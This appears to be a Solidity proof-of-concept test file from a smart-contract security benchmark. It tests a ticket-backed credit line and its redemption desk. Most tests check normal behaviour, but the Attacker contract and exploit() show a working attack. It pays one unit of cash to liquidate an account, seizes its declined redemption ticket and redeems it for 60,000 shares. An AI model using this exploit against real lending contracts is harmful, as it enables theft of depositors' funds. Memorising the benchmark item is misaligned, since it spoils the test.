// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

// assay-canary-49f03ef1-d23f-4bdc-b2f5-be5f35ab5127

import "./TicketCredit.sol";
import "./context/RedemptionDesk.sol";
import "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";

interface Vm {
    function warp(uint256 timestamp) external;
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
}

contract Token is ERC20 {
    address private maker = msg.sender;
    bool private off;
    uint8 private immutable places;

    constructor(uint8 places_) ERC20("Token", "TKN") {
        places = places_;
    }

    function decimals() public view override returns (uint8) {
        return places;
    }

    function turn(bool off_) external {
        require(msg.sender == maker, "maker only");
        off = off_;
    }

    function mint(address to, uint256 amount) external {
        require(msg.sender == maker, "maker only");
        _mint(to, amount);
    }

    /// While it is off, it answers no.
    function transfer(address to, uint256 amount) public override returns (bool) {
        return !off && super.transfer(to, amount);
    }

    function transferFrom(address from, address to, uint256 amount) public override returns (bool) {
        return !off && super.transferFrom(from, to, amount);
    }
}

/// A borrower with an ordinary account.
contract Borrower {
    TicketCredit private line;

    constructor(TicketCredit line_) {
        line = line_;
        line_.share().approve(address(line_), type(uint256).max);
        line_.cash().approve(address(line_), type(uint256).max);
    }

    function deposit(uint256 shares) external {
        line.deposit(shares);
    }

    function withdraw(uint256 shares) external {
        line.withdraw(shares);
    }

    function request(uint256 shares) external returns (uint256) {
        return line.request(shares);
    }

    function draw(uint256 amount) external {
        line.draw(amount);
    }

    function repay(uint256 amount) external {
        line.repay(address(this), amount);
    }

    function release(uint256 id) external {
        line.release(id);
    }
}

/// An account without a role that owns the smallest unit of cash.
contract Attacker {
    function take(TicketCredit line, address borrower, uint256 id) external {
        line.cash().approve(address(line), 1);
        uint256[] memory ids = new uint256[](1);
        ids[0] = id;
        line.liquidate(borrower, 1, 0, ids);
    }

    function redeem(IRedemptionDesk desk, uint256 id) external {
        desk.takeBack(id);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    uint256 private constant START = 1_790_000_000;

    Token public cash;
    Token public token;
    RedemptionDesk public desk;
    TicketCredit public line;
    Borrower public borrower;
    Attacker public mallory;
    uint256 public declined;
    uint256 public open;

    function setUp() public {
        vm.warp(START);
        cash = new Token(6);
        token = new Token(18);
        desk = new RedemptionDesk(token, cash, 1e6);
        line = new TicketCredit(cash, token, desk);
        cash.mint(address(line), 500_000e6);
        cash.mint(address(this), 500_000e6);
        cash.approve(address(desk), type(uint256).max);
        cash.approve(address(line), type(uint256).max);

        borrower = new Borrower(line);
        token.mint(address(borrower), 100_000e18);
        borrower.deposit(100_000e18);
        declined = borrower.request(60_000e18);
        open = borrower.request(10_000e18);
        borrower.draw(70_000e6);
        require(line.healthy(address(borrower)), "healthy at first");

        // The administrator declines the large ticket.
        desk.cancel(declined);
        require(!line.healthy(address(borrower)), "below the limit");

        mallory = new Attacker();
        cash.mint(address(mallory), 1);
    }

    function test_Regular() public {
        uint256[] memory none = new uint256[](0);
        uint256[] memory ids = new uint256[](1);

        // An honest liquidator pays for the open ticket and for idle shares.
        uint256 before = token.balanceOf(address(this));
        ids[0] = open;
        line.liquidate(address(borrower), 20_000e6, 11_000e18, ids);
        require(token.balanceOf(address(this)) == before + 11_000e18, "shares taken");
        require(desk.ticket(open).holder == address(this), "ticket taken");
        (uint256 shares, uint256 debt, uint256[] memory tickets) = line.info(address(borrower));
        require(shares == 19_000e18 && debt == 50_140e6, "account after liquidation");
        require(tickets.length == 1 && tickets[0] == declined, "other ticket stays");

        // Anyone pays a part of the debt.
        line.repay(address(borrower), 140e6);

        // More than the repayment plus premium is refused, so is a ticket of no account.
        try line.liquidate(address(borrower), 10_000e6, 10_501e18, none) {
            revert("took too much");
        } catch {}
        try line.liquidate(address(borrower), 10_000e6, 0, ids) {
            revert("took a foreign ticket");
        } catch {}

        // The taken ticket settles for the liquidator.
        desk.settle(open);
        require(desk.cashOut(open) == 10_000e6, "settled");

        // The declined ticket's shares come back to the account after the delay.
        try line.reclaim(declined) {
            revert("reclaimed early");
        } catch {}
        vm.warp(START + 3 days);
        line.reclaim(declined);
        (shares, debt, tickets) = line.info(address(borrower));
        require(shares == 79_000e18 && tickets.length == 0, "shares are back");
        require(line.healthy(address(borrower)), "healthy again");
        try line.liquidate(address(borrower), 1e6, 0, none) {
            revert("liquidated a healthy account");
        } catch {}

        // A settled ticket pays the debt and then the owner.
        uint256 second = borrower.request(60_000e18);
        uint256 third = borrower.request(5_000e18);
        desk.settle(second);
        line.collect(second);
        (shares, debt,) = line.info(address(borrower));
        require(debt == 0 && shares == 14_000e18, "debt paid");
        require(cash.balanceOf(address(borrower)) == 70_000e6 + 60_000e6 - 50_000e6, "rest paid out");

        // The account can be emptied, and drawing without collateral is refused.
        borrower.release(third);
        require(desk.ticket(third).holder == address(borrower), "ticket released");
        borrower.withdraw(14_000e18);
        try borrower.draw(1e6) {
            revert("drew on nothing");
        } catch {}

        line.defund(1e6);
        line.transferOwnership(address(borrower));
        vm.prank(address(borrower));
        line.renounceOwnership();
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes4 why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// An account beyond its limit gives nothing up.
    function test_RefusesBeyondTheLimit() public {
        refuses(address(borrower), TicketCredit.OverLimit.selector);
        line.withdraw(1);
        refuses(address(borrower), TicketCredit.OverLimit.selector);
        line.request(1e18);
        refuses(address(borrower), TicketCredit.OverLimit.selector);
        line.release(open);
        vm.prank(address(borrower));
        vm.expectRevert(abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, address(borrower)));
        line.defund(1);
    }

    /// Repayments of something, tickets of the account, eight at most.
    function test_RefusesTickets() public {
        vm.expectRevert(TicketCredit.BadAmount.selector);
        line.repay(address(borrower), 0);
        vm.expectRevert(TicketCredit.BadAmount.selector);
        line.repay(address(borrower), 70_140e6 + 1);
        vm.expectRevert(TicketCredit.NotOn.selector);
        line.collect(99);
        vm.expectRevert(TicketCredit.NotOn.selector);
        line.release(open);
        token.mint(address(this), 9e18);
        token.approve(address(line), 9e18);
        line.deposit(9e18);
        for (uint256 i = 0; i < 8; ++i) line.request(1e18);
        vm.expectRevert(TicketCredit.TooMany.selector);
        line.request(1e18);
    }

    /// Tokens that say no are believed.
    function test_RefusesFailedTransfers() public {
        cash.turn(true);
        bytes memory why = abi.encodeWithSelector(SafeERC20.SafeERC20FailedOperation.selector, address(cash));
        vm.expectRevert(why);
        line.repay(address(borrower), 1);
        vm.expectRevert(why);
        line.defund(1);
        token.turn(true);
        vm.expectRevert(abi.encodeWithSelector(SafeERC20.SafeERC20FailedOperation.selector, address(token)));
        line.deposit(1);
    }

    function test_RefusesAtTheDesk() public {
        address stranger = address(0xBE7);
        bytes memory unowned = abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, stranger);
        refuses(stranger, RedemptionDesk.NoValue.selector);
        desk.request(0);
        vm.prank(stranger);
        vm.expectRevert(unowned);
        desk.setNav(2e6);
        vm.prank(stranger);
        vm.expectRevert(unowned);
        desk.settle(open);
        vm.prank(stranger);
        vm.expectRevert(unowned);
        desk.cancel(open);
        refuses(stranger, RedemptionDesk.NotHolder.selector);
        desk.assign(open, stranger);
        vm.expectRevert(RedemptionDesk.WrongStatus.selector);
        desk.settle(declined);
        token.mint(address(this), 1e18);
        token.approve(address(desk), 1e18);
        uint256 mine = desk.request(1e18);
        desk.settle(mine);
        desk.cashOut(mine);
        vm.expectRevert(RedemptionDesk.WrongStatus.selector);
        desk.assign(mine, stranger);
    }

    function exploit() public {
        mallory.take(line, address(borrower), declined);
        vm.warp(START + 3 days);
        mallory.redeem(desk, declined);
    }

    function test_Exploit() public {
        uint256 before = token.balanceOf(address(mallory));
        exploit();
        require(token.balanceOf(address(mallory)) >= before + 60_000e18, "no gain");
        require(cash.balanceOf(address(mallory)) == 0, "paid one unit");
    }

    function target() public view returns (address) {
        return address(line);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}
